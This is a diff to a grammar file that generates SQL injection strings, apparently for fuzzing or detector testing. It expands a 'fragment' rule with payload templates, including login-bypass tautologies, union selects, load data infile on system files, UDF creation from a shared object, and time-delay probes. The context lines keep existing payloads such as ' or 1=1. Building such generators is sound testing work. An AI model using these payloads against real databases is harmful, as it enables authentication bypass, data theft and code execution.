@@ -205,16 +205,23 @@ login := *2 «=admin~root~administrator~user~test~guest~sa~1~»«quote» «=or~O
   ¦ admin' and 1=0 union all select 'admin','«hex32» ¦ or 1=1 ¦ ' or uid like '% ¦ \
   ¦ ' or «column» is not null or '«ab»'='«ab» ¦ 1' or '1' = '1 ¦ '||'1'||' ¦ "or 1=1 or ""=" ¦ ' or true--
   ¦ %' or '0'='0 ¦ ffifdyop ¦ '^'0 ¦ ' or id=«small»;-- ¦ x' or full_name like '%«word»%
-fragment := «sp»«sqlword» ¦ '«sqlword»' ¦ «left»' ¦ «left»" ¦ «left»'«nl» ¦ «left»`«sqlword» ¦ «left»;«sqlword»
-  ¦ select * from «table» ¦ SELECT «column»,«column» FROM «table» WHERE «column»='«word»'
-  ¦ insert into «table» values(«int»,'«word»') ¦ update «table» set «column»=«int»
-  ¦ delete from «table» where «column»=«int» ¦ drop table «table» ¦ «func»(«scalar_flat») ¦ «func»('«word»')
-  ¦ @@«sysvar» ¦ /*!«=50000~40119~»«sqlword|upper»*/ ¦ create table «rand»(«word» int) ¦ show tables
-  ¦ «left» «sqlword» «sqlword» ¦ exec «proc» ¦ execute immediate '«scalar»' ¦ having «truth» ¦ group by «column»
-  ¦ describe «table» ¦ union/**/select ¦ '«logic»'«letter»' ¦ select case when «truth» then 1 end
-  ¦ alter database «word» ¦ «left»'='«left» ¦ '/**/'«left» ¦ show databases ¦ declare @«ab» nvarchar(4000)
-  ¦ merge into «table» using dual ¦ call «word».«word»() ¦ select @@«sysvar» ¦ select * from «table» limit «small»
-  ¦ waitfor delay '0:0:«small»'
+fragment := «sp»«sqlword» ¦ _«=utf8~latin1~binary~ucs2~utf8mb4» «=0x~x'»«hex8» ¦ «func»( «scalar_flat» )
+  ¦ like binary '%«ab»' ¦ «left»-0 ¦ «left»;--«sp» ¦ «left»#«rand»«nl»«sqlword» ¦ (select(1)) ¦ =«func»('«ab»)
+  ¦ select «func»(«column») from «table» ¦ «sqlword» «column» «sqlword» «table» ¦ ~«small» ¦ '«small»'!='«dd»'
+  ¦ «left»'&&'«ab»'||' ¦ intersect select «cells» ¦ procedure «name»()
+  ¦ create function «rand» returns string soname '«rand».so' ¦ replace into «table» values(«int»)
+  ¦ load data infile '«unix_file»' into table «word» ¦ select * from «table» where «column» rlike '^«ab»'
+  ¦ if(«truth»,1,0) ¦ ';«sqlword» «table» ¦ having count(*)>«d» ¦ order by «tens»-- ¦ group by «column» with rollup
+  ¦ open sesame; deallocate «word» ¦ dbms_xmlquery.newcontext('«scalar»') ¦ '«sqlword»' ¦ «left»' ¦ «left»"
+  ¦ «left»'«nl» ¦ «left»`«sqlword» ¦ «left»;«sqlword» ¦ select * from «table»
+  ¦ SELECT «column»,«column» FROM «table» WHERE «column»='«word»' ¦ insert into «table» values(«int»,'«word»')
+  ¦ update «table» set «column»=«int» ¦ delete from «table» where «column»=«int» ¦ drop table «table»
+  ¦ «func»(«scalar_flat») ¦ «func»('«word»') ¦ @@«sysvar» ¦ /*!«=50000~40119~»«sqlword|upper»*/
+  ¦ create table «rand»(«word» int) ¦ show tables ¦ «left» «sqlword» «sqlword» ¦ exec «proc»
+  ¦ execute immediate '«scalar»' ¦ having «truth» ¦ group by «column» ¦ describe «table» ¦ union/**/select
+  ¦ '«logic»'«letter»' ¦ select case when «truth» then 1 end ¦ alter database «word» ¦ «left»'='«left» ¦ '/**/'«left»
+  ¦ show databases ¦ declare @«ab» nvarchar(4000) ¦ merge into «table» using dual ¦ call «word».«word»()
+  ¦ select @@«sysvar» ¦ select * from «table» limit «small» ¦ waitfor delay '0:0:«small»'
 func := ascii ¦ char ¦ concat ¦ substring ¦ mid ¦ hex ¦ unhex ¦ load_file ¦ benchmark ¦ sleep ¦ md5 ¦ extractvalue
   ¦ updatexml ¦ group_concat ¦ ifnull ¦ nullif ¦ coalesce ¦ cast ¦ convert ¦ ord ¦ lpad ¦ rpad ¦ reverse ¦ soundex ¦ bin
   ¦ conv ¦ greatest ¦ least ¦ elt ¦ field ¦ find_in_set ¦ instr ¦ locate ¦ position ¦ aes_decrypt ¦ from_base64
